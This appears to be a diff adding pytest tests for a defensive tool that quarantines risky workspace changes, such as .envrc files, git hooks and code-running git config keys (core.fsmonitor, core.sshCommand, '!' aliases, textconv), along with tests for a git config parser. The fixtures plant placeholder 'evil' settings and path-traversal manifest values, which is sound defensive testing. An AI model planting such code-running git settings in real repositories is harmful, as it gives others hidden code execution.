+    accepted = guard.accept(str(root), str(folder))
+    assert {outcome.what for outcome in accepted} == {"accepted"}
+    assert everything(root) == attacked
+    assert not folder.exists()
+
+
+def test_of_a_git_configuration_only_what_runs_is_put_back(root: Path, project: Path, tmp_path: Path) -> None:
+    git(project, "config", "core.editor", "mine")
+    git(project, "config", "core.pager", "less")
+    git(project, "config", "diff.x.textconv", 'a\\b"c\td')
+
+    def act() -> None:
+        git(project, "config", "core.editor", "evil")
+        git(project, "config", "core.fsmonitor", "evil")
+        git(project, "config", "alias.x", "!evil")
+        git(project, "config", "diff.x.textconv", "evil")
+        git(project, "config", "user.name", "new")
+        git(project, "remote", "add", "origin", "u")
+
+    guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    listed = dict(line.split("=", 1) for line in git(project, "config", "--local", "--list").splitlines())
+    assert listed["core.editor"] == "mine"
+    assert listed["core.pager"] == "less"
+    assert listed["diff.x.textconv"] == 'a\\b"c\td'
+    assert listed["user.name"] == "new"
+    assert listed["remote.origin.url"] == "u"
+    assert {"core.fsmonitor", "alias.x"}.isdisjoint(listed)
+    guard.accept(str(root), str(tmp_path / "q"))
+    assert git(project, "config", "core.fsmonitor") == "evil\n"
+
+
+def test_a_new_repository_keeps_its_configuration_but_for_what_runs(root: Path, tmp_path: Path) -> None:
+    def act() -> None:
+        git(root, "init", "-q", "new")
+        git(root / "new", "config", "core.sshCommand", "evil")
+
+    (outcome,) = guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    assert outcome == ("new/.git/config", "restored", "")
+    assert git(root / "new", "config", "--list", "--local").count("core.") >= 3
+    assert "sshcommand" not in git(root / "new", "config", "--list", "--local")
+
+
+def test_a_configuration_that_cannot_be_read_is_replaced_as_a_whole(
+    root: Path, project: Path, tmp_path: Path
+) -> None:
+    config = project / ".git" / "config"
+    former = config.read_bytes()
+    found = changes(root, lambda: config.write_text("[core]\nfsmonitor = evil\n!"))
+    guard.quarantine(str(root), found, str(tmp_path / "q"))
+    assert config.read_bytes() == former
+
+
+@pytest.mark.parametrize("limit", ["MAX_FILE", "MAX_READ"])
+def test_what_was_too_large_to_keep_is_moved_away(
+    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, limit: str
+) -> None:
+    monkeypatch.setattr(guard_walk, limit, 10)
+    put(root / ".envrc", "a" * 100)
+    (outcome,) = guard.quarantine(
+        str(root), changes(root, lambda: put(root / ".envrc", "b" * 101)), str(tmp_path / "q")
+    )
+    assert outcome.what == "moved"
+    assert not (root / ".envrc").exists()
+
+
+def test_what_cannot_be_copied_gets_another_name_and_comes_back(
+    root: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(guard_quarantine, "MAX_COPY", 100)
+
+    def act() -> None:
+        put(root / ".envrc", "b" * 101)
+        os.mkfifo(root / ".vimrc")
+
+    guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    assert guard.compare(EMPTY, guard.take(str(root))) == ()
+    assert len(list(root.iterdir())) == 2
+    guard.accept(str(root), str(tmp_path / "q"))
+    assert (root / ".envrc").read_text() == "b" * 101
+    assert (root / ".vimrc").is_fifo()
+
+
+def test_a_hard_link_to_a_file_that_is_put_back_does_not_change(
+    root: Path, project: Path, tmp_path: Path
+) -> None:
+    def act() -> None:
+        put(project / "Makefile", "evil\n")
+        (root / "other").hardlink_to(project / "Makefile")
+
+    guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    assert (root / "other").read_text() == "evil\n"
+    assert (project / "Makefile").read_text() == "all:\n\techo\n"
+
+
+@needs_user
+def test_a_locked_folder_and_a_locked_file_do_not_keep_what_runs(root: Path, tmp_path: Path) -> None:
+    def act() -> None:
+        put(root / "a" / ".envrc", "a", 0).parent.chmod(0o500)
+
+    (outcome,) = guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    assert outcome.what == "moved"
+    assert not (root / "a" / ".envrc").exists()
+
+
+@pytest.mark.parametrize(
+    ("name", "content"),
+    [
+        (".git/config", "[core]\nhooksPath = src\n"),
+        (".git/config", "[include]\npath = ../own\n"),
+        (".git/hooks/pre-push", ""),
+        (".vscode", ""),
+        ("HEAD", "ref: x"),
+    ],
+)
+def test_what_is_the_users_and_only_led_to_stays(
+    root: Path, project: Path, tmp_path: Path, name: str, content: str
+) -> None:
+    put(project / "own", "[core]\npager = mine\n")
+    put(project / "src" / "tasks.json", "{}")
+    put(project / "hooks" / "use.js", "export\n")
+    put(project / "objects" / "x")
+    calm = everything(root)
+
+    def act() -> None:
+        if content:
+            put(project / name, content)
+        else:
+            (project / name).symlink_to("../../own" if "hooks" in name else "src")
+
+    found = changes(root, act)
+    assert len(found) > 1
+    guard.quarantine(str(root), found, str(tmp_path / "q"))
+    if name == ".git/config":
+        del calm[str(project / name)]
+        assert (project / name).read_text() in ("[core]\n", "[include]\n")
+        (project / name).unlink()
+    assert everything(root) == calm
+
+
+@pytest.mark.parametrize("setting", ["core.hooksPath", "include.path"])
+def test_what_the_users_own_settings_lead_to_does_not_stay(
+    root: Path, project: Path, tmp_path: Path, setting: str
+) -> None:
+    git(project, "config", setting, "tools" if "hooks" in setting else "../tools/pre-push")
+
+    def act() -> None:
+        put(project / "tools" / "pre-push", "[core]\npager = evil\n")
+        git(project, "config", "core.editor", "evil")
+
+    found = changes(root, act)
+    assert {change.path for change in found} == {"project/.git/config", "project/tools/pre-push"}
+    guard.quarantine(str(root), found, str(tmp_path / "q"))
+    assert "evil" not in "".join(path.read_text() for path in (project / "tools").iterdir())
+
+
+def test_what_is_led_to_but_risky_by_its_name_does_not_stay(root: Path, tmp_path: Path) -> None:
+    put(root / ".git" / "HEAD")
+
+    def act() -> None:
+        put(root / "a" / "b" / "c" / ".envrc", "evil")
+        put(root / ".git" / "hooks" / "x").unlink()
+        (root / ".git" / "hooks" / "x").symlink_to("../../a/b/c/.envrc")
+
+    guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    assert not (root / "a" / "b" / "c" / ".envrc").exists()
+
+
+def test_a_folder_swapped_for_a_link_is_not_followed(root: Path, tmp_path: Path) -> None:
+    outside = put(tmp_path / "outside" / ".envrc", "mine").parent
+    found = changes(root, lambda: put(root / "a" / "b" / ".envrc", "evil"))
+    shutil.rmtree(root / "a")
+    (root / "a").mkdir()
+    (root / "a" / "b").symlink_to(outside)
+    (outcome,) = guard.quarantine(str(root), found, str(tmp_path / "q"))
+    assert outcome.what == "failed"
+    assert (outside / ".envrc").read_text() == "mine"
+
+
+@pytest.mark.parametrize("name", ["workspace/q", "workspace/a/q", "taken", "link"])
+def test_a_quarantine_is_a_new_folder_outside_of_the_workspace(root: Path, tmp_path: Path, name: str) -> None:
+    (tmp_path / "taken").mkdir()
+    (tmp_path / "link").symlink_to("elsewhere")
+    found = changes(root, lambda: put(root / ".envrc", "evil"))
+    with pytest.raises(OSError, match=r"exists|in the workspace"):
+        guard.quarantine(str(root), found, str(tmp_path / name))
+    assert (root / ".envrc").exists()
+
+
+def test_unseen_places_are_nothing_to_take_away(root: Path, tmp_path: Path) -> None:
+    found = guard.compare(EMPTY, guard.Snapshot({}, ("a",)))
+    assert guard.quarantine(str(root), found, str(tmp_path / "q")) == ()
+
+
+def test_what_somebody_has_written_since_is_not_overwritten(
+    root: Path, project: Path, tmp_path: Path
+) -> None:
+    def act() -> None:
+        put(project / "Makefile", "evil\n")
+        put(project / ".envrc", "evil")
+        put(project / ".vimrc", "evil")
+
+    guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    put(project / "Makefile", "mine\n")
+    put(project / ".envrc", "mine")
+    outcomes = {outcome.path: outcome.what for outcome in guard.accept(str(root), str(tmp_path / "q"))}
+    assert outcomes == {
+        "project/Makefile": "failed",
+        "project/.envrc": "failed",
+        "project/.vimrc": "accepted",
+    }
+    assert (project / "Makefile").read_text() == "mine\n"
+    # What failed still waits.
+    (project / ".envrc").unlink()
+    again = {outcome.path: outcome.what for outcome in guard.accept(str(root), str(tmp_path / "q"))}
+    assert again == {"project/Makefile": "failed", "project/.envrc": "accepted"}
+
+
+@pytest.mark.parametrize(
+    "change",
+    [
+        {"path": "../outside"}, {"path": "/outside"}, {"path": "a/../../outside"}, {"path": ""},
+        {"path": "a\0"}, {"path": 1}, {"kept": "../../outside"}, {"kept": "manifest.json"}, {"kept": ""},
+        {"kept": 0}, {"mode": "x"}, {"left": None}, {"more": 1},
+    ],
+)  # fmt: skip
+def test_a_manifest_that_was_tampered_with_is_refused(
+    root: Path, tmp_path: Path, change: dict[str, object]
+) -> None:
+    guard.quarantine(str(root), changes(root, lambda: put(root / ".envrc", "evil")), str(tmp_path / "q"))
+    manifest = tmp_path / "q" / "manifest.json"
+    (entry,) = json.loads(manifest.read_text())
+    manifest.write_text(json.dumps([{**entry, **change}]))
+    with pytest.raises(ValueError, match="none of ours"):
+        guard.accept(str(root), str(tmp_path / "q"))
+
+
+@pytest.mark.parametrize("content", ["", "{}x", "1", "[1]", '{"a": 1}', "[" * 100_000, b"\xff"])
+def test_a_manifest_that_is_none_is_refused(root: Path, tmp_path: Path, content: str | bytes) -> None:
+    put(tmp_path / "q" / "manifest.json", content)
+    with pytest.raises(ValueError, match="none of ours"):
+        guard.accept(str(root), str(tmp_path / "q"))
+
+
+@pytest.mark.parametrize("make", [os.mkfifo, os.mkdir, lambda path: path.symlink_to("0")])
+def test_a_manifest_that_is_no_file_is_refused(
+    root: Path, tmp_path: Path, make: Callable[[Path], object]
+) -> None:
+    put(tmp_path / "q" / "0", "[]")
+    make(tmp_path / "q" / "manifest.json")
+    with pytest.raises(OSError, match="cannot be read"):
+        guard.accept(str(root), str(tmp_path / "q"))
+
+
+def test_what_is_accepted_never_gets_out_by_a_link(root: Path, tmp_path: Path) -> None:
+    outside = tmp_path / "outside"
+    outside.mkdir()
+    found = changes(root, lambda: put(root / "a" / ".envrc", "evil"))
+    guard.quarantine(str(root), found, str(tmp_path / "q"))
+    (root / "a").rmdir()
+    (root / "a").symlink_to(outside)
+    (outcome,) = guard.accept(str(root), str(tmp_path / "q"))
+    assert outcome.what == "failed"
+    assert list(outside.iterdir()) == []
+
+
+def test_setuid_is_not_given_back(root: Path, tmp_path: Path) -> None:
+    def act() -> None:
+        put(root / ".envrc", "evil", 0o6755)
+
+    guard.quarantine(str(root), changes(root, act), str(tmp_path / "q"))
+    guard.accept(str(root), str(tmp_path / "q"))
+    assert stat.S_IMODE((root / ".envrc").stat().st_mode) == 0o755
+
+
+# Git's configuration files
+
+PIECES = st.sampled_from([
+    "[core]", "[CORE]", '[core "a"]', '[Diff "A.b\\"c"]', "[filter.X]", "[a-b.c]", "[core\t \"x\" ]", "[",
+    "]", "[]", '[core "fsmonitor\0"]', '[core "fsmonitor\0.y"]', "fsmonitor", "Key", "k-1", "=", " = ",
+    "value", "!",
+    '"', '""', '"a b"', '" "', "\\", "\\n", "\\t", "\\b", '\\"', "\\\\", "\\x", "\\\n", "\\\r\n",
+    " ", "  ", "\t",
+    "\n", "\n", "\n", "\r\n", "\r", "#", ";", "# c", "\ufeff", "\0", "é", "\udcff", "1", "-", ".", "\v", "\f",
+])  # fmt: skip
+SENSIBLE = st.builds("{}{}{}{}{}".format, st.sampled_from(["[core]", '[a "b"]', ""]), *[PIECES] * 4)
+FILES = st.lists(
+    st.one_of(PIECES, SENSIBLE, st.sampled_from(["\n[a]", "\nkey = ", '\n[A "b"] c = '])), max_size=20
+)
+
+
+def listed(content: bytes) -> list[tuple[str, str | None]] | None:
+    """Return what git reads, or None if it refuses."""
+    run = subprocess.run(
+        ["git", "config", "-f", "-", "--list", "-z"], input=content, capture_output=True, check=False
+    )
+    if run.returncode:
+        return None
+    entries = os.fsdecode(run.stdout).split("\0")[:-1]
+    return [
+        plain(name, value if line else None) for name, line, value in (e.partition("\n") for e in entries)
+    ]
+
+
+def plain(name: str, value: str | None) -> tuple[str, str | None]:
+    # Git 2.45 keeps the kind of blank that older ones turn into a space. Keys are compared in any case.
+    head, dot, key = name.rpartition(".")
+    return head + dot + key.lower(), value and value.replace("\t", " ").replace("\r", " ")
+
+
+@settings(max_examples=400)
+@given(FILES.map("".join))
+def test_the_parser_reads_what_git_reads(text: str) -> None:
+    content = text.encode("utf-8", "surrogateescape")
+    expected = listed(content)
+    if expected is not None:
+        assert [plain(entry.name, entry.value) for entry in gitconfig.parse(content)] == expected
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "[core]\n\tfsmonitor = x", "[core] fsmonitor=x # c", "[core]fsmonitor",
+        "\ufeff[core]\r\nfsmonitor = x\r\n", "[core]\nfsmonitor = a\\\n  b",
+        "[a]k = \\\n = ", '[core]\nfsmonitor = "a # b" ; c',
+        "[a][core]k=v", "[core.x] k=v",
+        '[core "fsmonitor\0"] k = v', "[core]\nk = a\\\n", '[core]\nk = a "" ', "[core]\nk = \\\"a\\\"",
+        "[core]\nk = a\\", '[core "\\x\\\\\\""]\nk = v', "[core]\nk=a\rb\r\n", "[core]\nk = a \\\n",
+    ],
+)  # fmt: skip
+def test_the_parser_reads_these_as_git_does(text: str) -> None:
+    expected = listed(text.encode())
+    assert expected
+    assert [plain(entry.name, entry.value) for entry in gitconfig.parse(text.encode())] == expected
+
+
+@given(FILES.map("".join))
+def test_settings_are_taken_out_and_the_others_stay(text: str) -> None:
+    content = text.encode("utf-8", "surrogateescape")
+    try:
+        before = gitconfig.parse(content)
+        names = sorted({entry.name for entry in before})[::2]
+        after = gitconfig.parse(gitconfig.put_back(content, names, {}))
+    except ValueError:
+        return
+    assert [entry[:2] for entry in after] == [entry[:2] for entry in before if entry.name not in names]
+
+
+VALUES = st.none() | st.text(st.characters(blacklist_characters="\0\r", blacklist_categories=["Cs"]))
+
+
+@given(
+    FILES.map("".join),
+    st.lists(VALUES, min_size=1).map(tuple),
+    st.sampled_from(["core.editor", 'diff.a\\".b.c']),
+)
+def test_settings_are_put_back_so_that_git_reads_them(
+    text: str, values: tuple[str | None, ...], name: str
+) -> None:
+    try:
+        new = gitconfig.put_back(text.encode("utf-8", "surrogateescape"), [name], {name: values})
+    except ValueError:
+        return
+    read = listed(new)
+    assert read is None or [value for key, value in read if key == name] == [plain("", v)[1] for v in values]
